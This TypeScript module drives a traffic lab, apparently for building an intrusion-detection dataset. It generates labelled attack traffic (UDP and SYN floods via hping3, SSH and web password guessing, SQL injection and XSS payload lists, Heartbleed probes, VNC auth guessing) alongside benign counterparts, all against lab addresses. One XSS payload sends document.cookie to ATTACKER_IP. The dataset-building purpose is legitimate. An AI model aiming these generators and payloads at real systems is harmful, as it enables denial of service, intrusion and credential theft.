/**
 * Client side of the traffic lab's attack scenarios and their benign look-alikes (run inside the
 * client namespace by lab.ts `client`). Each attack is a generic behaviour of its kind with the
 * tool's knobs (rate, payload sizes, ports, pacing, attempts per connection) drawn from the seeded
 * Random, never a replay of a particular capture; each benign counterpart uses the same services
 * the way ordinary clients do, so the model has to learn the behaviour rather than the port.
 */
import { spawn } from 'node:child_process';
import dgram from 'node:dgram';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import type { Random } from '../random.js';
import { ATTACKER_IP, CLIENT_IPS, SRV_IP, TLS_PATCHED_IP, TLS_VULNERABLE_IP } from './lab-net.js';
import { LAB_SSH_PASSWORD, LAB_SSH_USER, WEBAPP_PASSWORD, WEBAPP_USER } from './lab-services.js';
import {
  MAX_FRAGMENT, REC_ALERT, REC_APPLICATION_DATA, REC_CHANGE_CIPHER_SPEC, REC_HANDSHAKE, REC_HEARTBEAT, RecordSplitter, clientFinish, clientHello, heartbeatBody,
  randomBytes, record, type TlsRecord,
} from './tls-records.js';

export interface ScenarioContext {
  rng: Random;
  /** Date.now() at which the scenario stops starting new work. */
  end: number;
  /** The run's private temp dir (ssh keys, askpass helper). */
  keyDir: string;
  workers(n: number, fn: (w: number) => Promise<void>): Promise<void[]>;
  loop(fn: () => Promise<void>, pauseMs: () => number): Promise<void>;
}

/** Scenario → label for the scenarios this module implements. */
export const ATTACK_MODULE_SCENARIOS: Record<string, string> = {
  datagrams: 'BENIGN', sshpass: 'BENIGN', webapp: 'BENIGN', tlsapp: 'BENIGN', vnc: 'BENIGN',
  udpflood: 'UDP Flood', synflood: 'SYN Flood', sshguess: 'SSH-Patator', webbrute: 'Web Attack - Brute Force', sqli: 'Web Attack - SQL Injection', xss: 'Web Attack - XSS',
  heartbleed: 'Heartbleed', vncscan: 'VNC brute force',
};

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const pickOf = <T>(rng: Random, a: readonly T[]): T => a[rng.int(a.length)];

const COMMON_PASSWORDS = ['123456', 'password', '12345678', 'qwerty', 'abc123', 'letmein', 'admin', 'welcome', 'monkey', 'dragon', 'master', 'sunshine',
  'iloveyou', 'trustno1', 'princess', 'admin123', 'root', 'toor', 'changeme', 'passw0rd', 'P@ssw0rd', 'football', 'baseball', 'shadow', 'superman',
  'qwertyuiop', '1q2w3e4r', 'zaq12wsx', 'Summer2024!', 'default', 'guest', 'test123', 'raspberry', 'ubnt', 'oracle', 'postgres', 'Winter2023'];
const USER_NAMES = ['root', 'admin', 'test', 'user', 'guest', 'oracle', 'ubuntu', 'pi', 'git', 'postgres', 'ftpuser', LAB_SSH_USER];
const WORDS = ['grill', 'recipes', 'charcoal', 'brisket', 'smoker', 'temperature', 'ribs', 'sauce', 'weekend party', 'opening hours', 'gift card', 'vegetarian options'];

// ---------------------------------------------------------------- UDP

function udpBurst(rng: Random, local: string, ports: () => number, sizes: () => number, count: number, gapMs: number, freshSocket: boolean): Promise<void> {
  return new Promise((resolve) => {
    let shared: dgram.Socket | null = null;
    const sock = (cb: (s: dgram.Socket) => void): void => {
      if (!freshSocket && shared) { cb(shared); return; }
      const s = dgram.createSocket('udp4');
      s.on('error', () => undefined);
      s.bind(0, local, () => { if (!freshSocket) shared = s; cb(s); });
    };
    let sent = 0;
    const next = (): void => {
      if (sent++ >= count) { setTimeout(() => { shared?.close(); resolve(); }, 50); return; }
      sock((s) => s.send(randomBytes(rng, sizes()), ports(), SRV_IP, () => {
        if (freshSocket) s.close();
        if (gapMs > 0) setTimeout(next, gapMs); else setImmediate(next);
      }));
    };
    next();
  });
}

/** hping3 (Debian package `hping3`) with an argument array, resolving when it exits. */
function hping(args: string[], timeoutMs: number): Promise<void> {
  return new Promise((resolve) => {
    const p = spawn('hping3', args, { stdio: 'ignore' });
    const t = setTimeout(() => p.kill('SIGINT'), timeoutMs);
    p.on('exit', () => { clearTimeout(t); resolve(); });
    p.on('error', () => { clearTimeout(t); resolve(); });
  });
}

/**
 * UDP flood as hping3 and LOIC-like tools send it: bursts of thousands of datagrams per second from
 * the attacker, empty or small random payloads, to port 0, a closed port, an open service or
 * incrementing ports, with incrementing, fixed or random source ports.
 */
async function udpFlood(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  while (Date.now() < ctx.end - 300) {
    const left = ctx.end - Date.now();
    const payload = rng.next() < 0.45 ? 0 : rng.next() < 0.6 ? rng.int(64) : rng.int(1400);
    const dst = pickOf(rng, ['0', '0', 'closed', 'open', 'increment']);
    const style = pickOf(rng, ['hping-increment', 'hping-increment', 'hping-fixed', 'random-source']);
    if (style === 'random-source') {
      // a script opening a fresh socket per datagram: random ephemeral source ports (dgram cannot send to port 0)
      const port = dst === 'open' ? pickOf(rng, [53, 123, 4433]) : 1024 + rng.int(64000);
      await udpBurst(rng, ATTACKER_IP, () => (dst === 'increment' ? 1 + rng.int(65535) : port), () => payload, 300 + rng.int(2500), rng.next() < 0.5 ? 0 : 1, true);
    } else {
      const intervalUs = pickOf(rng, [50, 100, 200, 400, 1000, 2500]);
      // bursts of at most ~4 s, so one run holds several styles
      const count = Math.max(50, Math.min(500 + rng.int(6000), Math.floor((Math.min(left, 4000) * 1000) / intervalUs)));
      const port = dst === '0' ? '0' : dst === 'closed' ? String(1024 + rng.int(64000)) : dst === 'open' ? String(pickOf(rng, [53, 123, 4433])) : `++${1 + rng.int(60000)}`;
      await hping(['--udp', '-q', '-n', '-a', ATTACKER_IP, '-c', String(count), '-i', `u${intervalUs}`, '-d', String(payload), '-p', port,
        '-s', String(1024 + rng.int(60000)), ...(style === 'hping-fixed' ? ['-k'] : []), SRV_IP], left + 2000);
    }
    await sleep(rng.int(1500));
  }
}

/**
 * SYN flood with hping3: bursts of SYNs (sometimes with payload) to an open or closed port, from the
 * attacker's address or from random spoofed sources (the server's replies to those have no route in
 * its namespace, so the capture holds the one-way SYNs a spoofed flood leaves).
 */
async function synFlood(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  while (Date.now() < ctx.end - 300) {
    const left = ctx.end - Date.now();
    const intervalUs = pickOf(rng, [50, 100, 200, 500, 1000, 3000]);
    const count = Math.max(50, Math.min(300 + rng.int(5000), Math.floor((Math.min(left, 4000) * 1000) / intervalUs)));
    const port = pickOf(rng, ['80', '80', '22', '443', String(1 + rng.int(65535)), `++${1 + rng.int(60000)}`]);
    const source = rng.next() < 0.6 ? ['--rand-source'] : ['-a', ATTACKER_IP];
    const data = rng.next() < 0.7 ? 0 : rng.int(1200);
    await hping(['-S', '-q', '-n', ...source, '-c', String(count), '-i', `u${intervalUs}`, '-d', String(data), '-p', port, '-s', String(1024 + rng.int(60000)),
      '-w', String(pickOf(rng, [64, 512, 5840, 29200, 64240])), SRV_IP], left + 2000);
    await sleep(rng.int(1500));
  }
}

/**
 * Benign one-way and low-rate datagrams: syslog, SNMP traps, statsd, NetBIOS, SSDP, mDNS, NAT
 * keepalives. Daemons that report continuously (syslog, statsd, keepalives, announcements) keep one
 * socket and send several datagrams; traps and discovery probes are one-shot from a fresh socket.
 */
async function datagrams(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  const services: Array<[number, number, number, boolean]> = [[514, 60, 400, true], [162, 80, 300, false], [8125, 20, 120, true], [137, 50, 50, true], [138, 200, 240, true],
    [1900, 120, 400, true], [5353, 40, 300, true], [4500, 1, 1, true], [5060, 300, 800, false], [3702, 600, 900, false]];
  await ctx.workers(3, (w) => ctx.loop(async () => {
    const [port, lo, hi, persistent] = pickOf(rng, services);
    const n = persistent ? 2 + rng.int(8) : rng.next() < 0.8 ? 1 : 2;
    await udpBurst(rng, CLIENT_IPS[w], () => port, () => lo + rng.int(hi - lo + 1), n, persistent ? 100 + rng.int(2000) : 20 + rng.int(500), !persistent);
  }, () => 50 + rng.int(1500)));
}

// ---------------------------------------------------------------- SSH with passwords

let pwFiles = 0;

/**
 * Key exchange and cipher for one ssh run: clients and servers of other versions negotiate other
 * algorithms (OpenSSH 9's default hybrid KEX alone adds ~1 KB per direction), so every ssh scenario,
 * benign or not, draws them the same way.
 */
export function sshAlgorithmOptions(rng: Random): string[] {
  const kex = pickOf(rng, ['sntrup761x25519-sha512@openssh.com', 'curve25519-sha256', 'curve25519-sha256', 'ecdh-sha2-nistp256', 'diffie-hellman-group14-sha256', 'diffie-hellman-group16-sha512']);
  const cipher = pickOf(rng, ['chacha20-poly1305@openssh.com', 'aes128-ctr', 'aes256-ctr', 'aes128-gcm@openssh.com', 'aes256-gcm@openssh.com']);
  const mac = pickOf(rng, ['umac-64-etm@openssh.com', 'hmac-sha2-256-etm@openssh.com', 'hmac-sha2-256', 'hmac-sha1']);
  return ['-o', `KexAlgorithms=${kex}`, '-o', `Ciphers=${cipher}`, '-o', `MACs=${mac}`];
}

/**
 * One run of the real OpenSSH client with password authentication only, answering each password
 * prompt from `passwords` through the askpass helper (after `delaySec`, as a typist or a throttled
 * tool would), resolving when ssh exits.
 */
function sshPassword(rng: Random, keyDir: string, local: string, user: string, passwords: string[], command: string, delaySec: number): Promise<void> {
  const list = path.join(keyDir, `pw-${process.pid}-${pwFiles++}`);
  fs.writeFileSync(list, `${passwords.join('\n')}\n`);
  return new Promise((resolve) => {
    const done = (): void => { fs.rmSync(list, { force: true }); fs.rmSync(`${list}.n`, { force: true }); resolve(); };
    const p = spawn('ssh', ['-b', local, '-p', '22', '-T', '-o', 'StrictHostKeyChecking=no', '-o', `UserKnownHostsFile=${path.join(keyDir, 'known_hosts')}`,
      '-o', 'ConnectTimeout=5', ...sshAlgorithmOptions(rng), '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', `NumberOfPasswordPrompts=${passwords.length}`,
      '-l', user, SRV_IP, command], {
      stdio: 'ignore',
      env: { ...process.env, DISPLAY: ':0', SSH_ASKPASS: path.join(keyDir, 'askpass.sh'), SSH_ASKPASS_REQUIRE: 'force', DMLAB_PW_LIST: list, DMLAB_PW_STATE: `${list}.n`, DMLAB_PW_DELAY: delaySec.toFixed(2) },
    });
    const t = setTimeout(() => p.kill(), 60_000);
    p.on('exit', () => { clearTimeout(t); done(); });
    p.on('error', () => { clearTimeout(t); done(); });
  });
}

/** The askpass helper: prints line n of $DMLAB_PW_LIST on its n-th call (counter in $DMLAB_PW_STATE), after $DMLAB_PW_DELAY seconds. */
export const ASKPASS_SCRIPT = `#!/bin/sh
n=$(cat "$DMLAB_PW_STATE" 2>/dev/null || echo 0)
n=$((n + 1))
echo "$n" > "$DMLAB_PW_STATE"
[ "$DMLAB_PW_DELAY" = "0.00" ] || sleep "$DMLAB_PW_DELAY"
sed -n "\${n}p" "$DMLAB_PW_LIST"
`;

/** Password guessing with OpenSSH: 1–6 wrong passwords per connection, common user names, tool-like or throttled pacing. */
async function sshGuess(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(6, () => {
    const delay = pickOf(rng, [0, 0, 0.05, 0.3, 1, 2]);
    const between = pickOf(rng, [0, 200, 1000, 3000]);
    return ctx.loop(() => {
      const prompts = 1 + rng.int(6);
      return sshPassword(rng, ctx.keyDir, ATTACKER_IP, pickOf(rng, USER_NAMES), Array.from({ length: prompts }, () => pickOf(rng, COMMON_PASSWORDS)), 'true', delay * (0.5 + rng.next()));
    }, () => rng.int(between + 1));
  });
}

/** Benign password logins of the lab user (now and then after one typo), then a short session. */
async function sshPass(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(6, (w) => ctx.loop(() => {
    const passwords = rng.next() < 0.15 ? [`${LAB_SSH_PASSWORD.slice(0, -1)}x`, LAB_SSH_PASSWORD] : [LAB_SSH_PASSWORD];
    const out = Math.round(Math.exp(4 + rng.next() * 9));
    const cmd = pickOf(rng, [`head -c ${out} /dev/zero`, `head -c ${out} /dev/zero; sleep ${(rng.int(40) / 10).toFixed(1)}; echo done`, 'uptime', 'ls -la /', `sleep ${(rng.int(60) / 10).toFixed(1)}`]);
    return sshPassword(rng, ctx.keyDir, CLIENT_IPS[w % CLIENT_IPS.length], LAB_SSH_USER, passwords, cmd, 0.4 + rng.next() * 2.5);
  }, () => 300 + rng.int(3000)));
}

// ---------------------------------------------------------------- web application

interface Reply { status: number; cookie?: string }

function request(agent: http.Agent, local: string, method: 'GET' | 'POST', pathq: string, form?: string, cookie?: string): Promise<Reply> {
  return new Promise((resolve) => {
    const headers: Record<string, string> = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0', accept: 'text/html,*/*' };
    if (cookie) headers.cookie = cookie;
    if (form !== undefined) { headers['content-type'] = 'application/x-www-form-urlencoded'; headers['content-length'] = String(Buffer.byteLength(form)); }
    const req = http.request({ host: SRV_IP, port: 80, method, path: pathq, localAddress: local, agent, headers }, (res) => {
      res.on('data', () => undefined);
      res.on('end', () => resolve({ status: res.statusCode ?? 0, cookie: res.headers['set-cookie']?.[0]?.split(';')[0] ?? cookie }));
      res.on('error', () => resolve({ status: 0 }));
    });
    req.setTimeout(8000, () => req.destroy());
    req.on('error', () => resolve({ status: 0 }));
    req.end(form);
  });
}

const enc = encodeURIComponent;

function sqlPayloads(rng: Random): string[] {
  const fixed = ["1'", "1' OR '1'='1", "' OR 1=1#", "1' OR 1=1 -- ", "1' UNION SELECT user, password FROM users#", "1' UNION SELECT null, version()#",
    "1' AND SLEEP(2)#", "1' AND '1'='2", "1' ORDER BY 3#", "1' UNION SELECT table_name, null FROM information_schema.tables#", "%' or 0=0 union select null, version() #",
    "1'; DROP TABLE users; --", "admin'--", '1" OR "1"="1', "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)#",
    '1) OR (1=1', "1' waitfor delay '0:0:2'--", '-1\' UNION ALL SELECT CONCAT(0x7171,user(),0x7171),NULL#', "1' AND BENCHMARK(1000000,MD5(1))#", "1' AND extractvalue(1,concat(0x7e,database()))#"];
  const n = rng.int(9000);
  const generated = [`1 AND ${n}=${n}`, `1 AND ${n}=${n + 1}`, `1' AND ${n}=${n} AND 'a'='a`, `1' AND ${n}=${n + 7} AND 'a'='a`, `1 ORDER BY ${1 + rng.int(10)}-- -`, `1' UNION ALL SELECT ${Array.from({ length: 1 + rng.int(4) }, () => 'NULL').join(',')}-- -`];
  const all = [...fixed, ...generated].map((v) => ({ v, k: rng.next() })).sort((a, b) => a.k - b.k).map((x) => x.v);
  return all.slice(0, 4 + rng.int(all.length - 3));
}

const XSS_PAYLOADS = ['<script>alert(1)</script>', '<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', "<svg/onload=alert('XSS')>",
  '"><script>alert(String.fromCharCode(88,83,83))</script>', '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>', '<ScRiPt>alert(1)</ScRiPt>',
  `<script>document.location='http://${ATTACKER_IP}/c?'+document.cookie</script>`, "'><img src=x onerror=prompt(1)>", '<div style="background:url(javascript:alert(1))">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<a href="javascript:alert(1)">click</a>', '<input autofocus onfocus=alert(1)>'];

/**
 * Logs in with the valid account (the attacker of a web app usually has one, as in DVWA), returning
 * the session cookie. Attack tools without keep-alive are handed a cookie instead (sqlmap --cookie),
 * so every attacker connection carries attack requests.
 */
async function attackerSession(rng: Random, agent: http.Agent, keepAlive: boolean): Promise<string | undefined> {
  return keepAlive ? login(agent, ATTACKER_IP) : `PHPSESSID=${randomBytes(rng, 12).toString('hex')}; security=low`;
}

async function login(agent: http.Agent, local: string): Promise<string | undefined> {
  await request(agent, local, 'GET', '/login');
  return (await request(agent, local, 'POST', '/login', `username=${WEBAPP_USER}&password=${enc(WEBAPP_PASSWORD)}&Login=Login&user_token=${Date.now().toString(16)}`)).cookie;
}

/** Tool-driven sessions against the web app: a keep-alive or a fresh connection per request, machine or hand pacing. */
async function webSessions(ctx: ScenarioContext, requests: (agent: http.Agent, keepAlive: boolean, gap: () => number) => Promise<void>): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(2 + rng.int(3), () => ctx.loop(async () => {
    const keepAlive = rng.next() < 0.6;
    const agent = new http.Agent({ keepAlive, maxSockets: 1 });
    const pace = pickOf(rng, [0, 30, 150, 600, 2500]);
    await requests(agent, keepAlive, () => rng.int(pace + 1));
    agent.destroy();
  }, () => rng.int(2000)));
}

async function webBrute(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await webSessions(ctx, async (agent, keepAlive, gap) => {
    const user = pickOf(rng, [WEBAPP_USER, WEBAPP_USER, 'administrator', 'root', 'user', 'gordonb']);
    // browser-automation tools load the form (and its token) each time in one keep-alive session; hydra-like ones just post
    const fetchForm = keepAlive && rng.next() < 0.6;
    const tries = 5 + rng.int(60);
    for (let i = 0; i < tries && Date.now() < ctx.end; i++) {
      if (fetchForm) await request(agent, ATTACKER_IP, 'GET', '/login');
      const r = await request(agent, ATTACKER_IP, 'POST', '/login', `username=${enc(user)}&password=${enc(pickOf(rng, COMMON_PASSWORDS))}&Login=Login`);
      if (r.status === 302 && keepAlive && rng.next() < 0.5) await request(agent, ATTACKER_IP, 'GET', '/login?failed=1');
      await sleep(gap());
    }
  });
}

async function sqlInjection(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await webSessions(ctx, async (agent, keepAlive, gap) => {
    const cookie = await attackerSession(rng, agent, keepAlive);
    for (const p of sqlPayloads(rng)) {
      if (Date.now() >= ctx.end) break;
      await request(agent, ATTACKER_IP, 'GET', `/vulnerabilities/sqli/?id=${enc(p)}&Submit=Submit`, undefined, cookie);
      await sleep(gap());
    }
  });
}

async function crossSiteScripting(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await webSessions(ctx, async (agent, keepAlive, gap) => {
    const cookie = await attackerSession(rng, agent, keepAlive);
    const n = 2 + rng.int(XSS_PAYLOADS.length);
    for (let i = 0; i < n && Date.now() < ctx.end; i++) {
      const p = pickOf(rng, XSS_PAYLOADS);
      if (rng.next() < 0.6) await request(agent, ATTACKER_IP, 'GET', `/vulnerabilities/xss_r/?name=${enc(p)}`, undefined, cookie);
      else await request(agent, ATTACKER_IP, 'POST', '/vulnerabilities/xss_s/', `txtName=${enc(rng.next() < 0.5 ? 'test' : p)}&mtxMessage=${enc(p)}&btnSign=Sign+Guestbook`, cookie);
      await sleep(gap());
    }
  });
}

/** Ordinary users of the same web app: log in (sometimes after a typo), look around, search, look users up by id, sign the guestbook. */
async function webAppUsers(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(8, (w) => ctx.loop(async () => {
    const local = CLIENT_IPS[w % CLIENT_IPS.length];
    // browsers keep connections alive; a connection per request is what scripted tools do
    const agent = new http.Agent({ keepAlive: true, maxSockets: 2 });
    if (rng.next() < 0.1) await request(agent, local, 'POST', '/login', `username=${WEBAPP_USER}&password=${enc(WEBAPP_PASSWORD.toLowerCase())}&Login=Login`);
    const cookie = await login(agent, local);
    const n = 1 + rng.int(8);
    for (let i = 0; i < n; i++) {
      await sleep(200 + rng.int(rng.next() < 0.2 ? 5000 : 1500));
      const what = rng.int(6);
      if (what === 0) await request(agent, local, 'GET', `/vulnerabilities/sqli/?id=${1 + rng.int(5)}&Submit=Submit`, undefined, cookie);
      else if (what === 1) await request(agent, local, 'GET', `/vulnerabilities/xss_r/?name=${enc(pickOf(rng, ['Anna', 'Tom', 'Jo Miller', 'Kim']))}`, undefined, cookie);
      else if (what === 2) await request(agent, local, 'POST', '/vulnerabilities/xss_s/', `txtName=${enc(pickOf(rng, ['Anna', 'Tom', 'Kim']))}&mtxMessage=${enc(`${pickOf(rng, WORDS)} was great, thanks!`)}&btnSign=Sign+Guestbook`, cookie);
      else if (what === 3) await request(agent, local, 'GET', `/search?q=${enc(pickOf(rng, WORDS))}`, undefined, cookie);
      else { await request(agent, local, 'GET', pickOf(rng, ['/index', '/about', '/about?doc=2', '/index?tab=news']), undefined, cookie); await request(agent, local, 'GET', '/static/main.css', undefined, cookie); }
    }
    if (rng.next() < 0.4) await request(agent, local, 'GET', '/logout', undefined, cookie);
    agent.destroy();
  }, () => 200 + rng.int(2000)));
}

// ---------------------------------------------------------------- TLS at record level

/** A TCP connection read as TLS records, with a wait for the next record of a kind. */
class RecordConn {
  private queue: TlsRecord[] = [];
  private wake: (() => void) | null = null;
  closed = false;
  constructor(readonly sock: net.Socket) {
    const split = new RecordSplitter();
    sock.on('data', (d: Buffer) => { this.queue.push(...split.push(d)); this.wake?.(); });
    sock.on('close', () => { this.closed = true; this.wake?.(); });
    sock.on('error', () => undefined);
  }

  /** Waits until a record matching `pred` arrives (dropping others) or `ms` pass; true if it came. */
  async waitFor(pred: (r: TlsRecord) => boolean, ms: number): Promise<boolean> {
    const until = Date.now() + ms;
    for (;;) {
      while (this.queue.length) if (pred(this.queue.shift()!)) return true;
      if (this.closed || Date.now() >= until) return false;
      await new Promise<void>((r) => { this.wake = r; setTimeout(r, Math.max(1, until - Date.now())); });
      this.wake = null;
    }
  }
}

function connect(local: string, host: string, port: number): Promise<net.Socket | null> {
  return new Promise((resolve) => {
    const s = net.connect({ host, port, localAddress: local });
    s.once('connect', () => resolve(s));
    s.once('error', () => resolve(null));
  });
}

async function tlsHandshake(rng: Random, c: RecordConn, heartbeatExt: boolean, complete: boolean): Promise<boolean> {
  c.sock.write(clientHello(rng, 4 + rng.int(60), heartbeatExt, rng.next() < 0.3));
  if (!(await c.waitFor((r) => r.type === REC_HANDSHAKE && r.body[0] === 14, 3000))) return false;
  if (!complete) return true;
  c.sock.write(clientFinish(rng));
  return c.waitFor((r) => r.type === REC_CHANGE_CIPHER_SPEC, 3000);
}

async function tlsClose(rng: Random, c: RecordConn): Promise<void> {
  const how = rng.int(3);
  if (how === 0) c.sock.end(record(REC_ALERT, rng.next() < 0.5 ? Buffer.from([1, 0]) : randomBytes(rng, 26)));
  else if (how === 1) c.sock.end();
  else c.sock.resetAndDestroy();
  await sleep(20);
}

/**
 * Heartbleed (CVE-2014-0160) as the public probes and dumpers do it: a ClientHello offering the
 * heartbeat extension, then — right after the server's hello (plaintext) or after a completed
 * handshake — one or many heartbeat requests claiming up to 64 KB of payload while carrying a few
 * bytes, against a vulnerable responder (which leaks the claimed length) or a patched one (silence).
 */
async function heartbleed(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(5, () => ctx.loop(async () => {
    const sock = await connect(ATTACKER_IP, rng.next() < 0.6 ? TLS_VULNERABLE_IP : TLS_PATCHED_IP, 443);
    if (!sock) return;
    const c = new RecordConn(sock);
    const complete = rng.next() < 0.35;
    if (await tlsHandshake(rng, c, rng.next() < 0.9, complete)) {
      const beats = pickOf(rng, [1, 1, 1, 2, 3, 5, 10, 20 + rng.int(30)]);
      const claimed = pickOf(rng, [0x4000, 0xffff, 0x1000 + rng.int(0xf000), 0x0400 + rng.int(0x1000)]);
      const version = pickOf(rng, [0x0301, 0x0302, 0x0303]);
      const gap = pickOf(rng, [0, 50, 300, 1000]);
      for (let i = 0; i < beats && !c.closed && Date.now() < ctx.end; i++) {
        // most probes carry a few bytes; some pad the request with bulk payload (still claiming more than they carry)
        const carried = rng.next() < 0.25 ? rng.int(Math.min(claimed, MAX_FRAGMENT - 40)) : rng.next() < 0.5 ? 0 : rng.int(17);
        c.sock.write(record(REC_HEARTBEAT, heartbeatBody(1, claimed, randomBytes(rng, carried), rng.next() < 0.5 ? 0 : 16, rng), version));
        await c.waitFor((r) => r.type === REC_HEARTBEAT, 300 + rng.int(700));
        await sleep(rng.int(gap + 1));
      }
    }
    await tlsClose(rng, c);
  }, () => rng.int(1500)));
}

/** Ordinary TLS sessions against the same responders: full handshake, request/response records of varied size. */
async function tlsApp(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(8, (w) => ctx.loop(async () => {
    const sock = await connect(CLIENT_IPS[w % CLIENT_IPS.length], rng.next() < 0.5 ? TLS_VULNERABLE_IP : TLS_PATCHED_IP, 443);
    if (!sock) return;
    const c = new RecordConn(sock);
    // ordinary clients offer the heartbeat extension now and then but practically never send heartbeats;
    // sessions run to completion (a session cut at the end of the run would be a bare handshake)
    if (await tlsHandshake(rng, c, rng.next() < 0.3, true)) {
      const n = 1 + rng.int(rng.next() < 0.3 ? 15 : 4);
      for (let i = 0; i < n && !c.closed; i++) {
        const want = Math.round(Math.exp(5 + rng.next() * 9));
        const req = randomBytes(rng, 80 + rng.int(700));
        req.writeUInt32BE(want, 0);
        c.sock.write(record(REC_APPLICATION_DATA, req));
        let got = 0;
        await c.waitFor((r) => r.type === REC_APPLICATION_DATA && (got += r.body.length) >= want + 24, 3000);
        await sleep(rng.int(rng.next() < 0.2 ? 2000 : 300));
      }
    }
    await tlsClose(rng, c);
  }, () => 100 + rng.int(1500)));
}

// ---------------------------------------------------------------- RFB (VNC)

function readExactly(s: net.Socket, buf: { data: Buffer }, n: number, ms: number): Promise<Buffer | null> {
  return new Promise((resolve) => {
    const t = setTimeout(() => { cleanup(); resolve(null); }, ms);
    const check = (): void => {
      if (buf.data.length >= n) { cleanup(); const out = buf.data.subarray(0, n); buf.data = buf.data.subarray(n); resolve(out); }
    };
    const onData = (): void => check();
    const onClose = (): void => { cleanup(); resolve(null); };
    const cleanup = (): void => { clearTimeout(t); s.off('data', onData); s.off('close', onClose); };
    s.on('data', onData);
    s.on('close', onClose);
    setImmediate(check);
  });
}

async function rfbSession(rng: Random, local: string, scan: boolean, end: number): Promise<void> {
  const s = await connect(local, SRV_IP, 5900);
  if (!s) return;
  const buf: { data: Buffer } = { data: Buffer.alloc(0) };
  s.on('data', (d: Buffer) => { buf.data = Buffer.concat([buf.data, d]); });
  s.on('error', () => undefined);
  try {
    if (!(await readExactly(s, buf, 12, 3000))) return;
    if (scan && rng.next() < 0.15) return; // banner grab only
    await sleep(scan ? rng.int(50) : 50 + rng.int(300));
    s.write('RFB 003.008\n');
    if (!(await readExactly(s, buf, 2, 3000))) return;
    s.write(Buffer.from([2]));
    const challenge = await readExactly(s, buf, 16, 3000);
    if (!challenge) return;
    await sleep(scan ? rng.int(30) : 400 + rng.int(3000)); // a person types the password
    s.write(scan ? randomBytes(rng, 16) : Buffer.from(challenge.map((b) => (b + 1) & 0xff)));
    const result = await readExactly(s, buf, 4, 3000);
    if (!result || result.readUInt32BE(0) !== 0) { await readExactly(s, buf, 4 + 21, 500); return; }
    s.write(Buffer.from([1])); // ClientInit, shared
    if (!(await readExactly(s, buf, 24 + 11, 3000))) return;
    const encs = [0, 1, 5, 16, -239, -223];
    const setEnc = Buffer.alloc(4 + 4 * encs.length);
    setEnc[0] = 2;
    setEnc.writeUInt16BE(encs.length, 2);
    encs.forEach((e, i) => setEnc.writeInt32BE(e, 4 + 4 * i));
    s.write(setEnc);
    const until = scan ? end : Date.now() + 500 + rng.int(rng.next() < 0.3 ? 15000 : 4000);
    while (Date.now() < until && !s.destroyed) {
      const upd = Buffer.alloc(10);
      upd[0] = 3;
      upd[1] = 1;
      upd.writeUInt16BE(1280, 6);
      upd.writeUInt16BE(800, 8);
      s.write(upd);
      if (rng.next() < 0.5) { const ev = Buffer.alloc(6); ev[0] = 5; ev.writeUInt16BE(rng.int(1280), 2); ev.writeUInt16BE(rng.int(800), 4); s.write(ev); }
      if (rng.next() < 0.2) { const ev = Buffer.alloc(8); ev[0] = 4; ev[1] = 1; ev.writeUInt32BE(0x61 + rng.int(26), 4); s.write(ev); }
      await sleep(40 + rng.int(500));
    }
  } finally {
    s.end();
    await sleep(20);
  }
}

/** A VNC scanner/guesser: many RFB connections, each one VNC-auth attempt with a wrong response (or just the banner). */
async function vncScan(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(1 + rng.int(4), () => {
    const pace = pickOf(rng, [0, 100, 800, 3000]);
    return ctx.loop(() => rfbSession(rng, ATTACKER_IP, true, ctx.end), () => rng.int(pace + 1));
  });
}

async function vncUsers(ctx: ScenarioContext): Promise<void> {
  const { rng } = ctx;
  await ctx.workers(6, (w) => ctx.loop(() => rfbSession(rng, CLIENT_IPS[w % CLIENT_IPS.length], false, ctx.end), () => 300 + rng.int(2000)));
}

/** Runs one of this module's scenarios; false if the name is not one of them. */
export async function runAttackModuleScenario(scenario: string, ctx: ScenarioContext): Promise<boolean> {
  const table: Record<string, (c: ScenarioContext) => Promise<void>> = {
    udpflood: udpFlood, synflood: synFlood, datagrams, sshguess: sshGuess, sshpass: sshPass, webbrute: webBrute, sqli: sqlInjection, xss: crossSiteScripting, webapp: webAppUsers,
    heartbleed, tlsapp: tlsApp, vncscan: vncScan, vnc: vncUsers,
  };
  const fn = table[scenario];
  if (!fn) return false;
  await fn(ctx);
  return true;
}
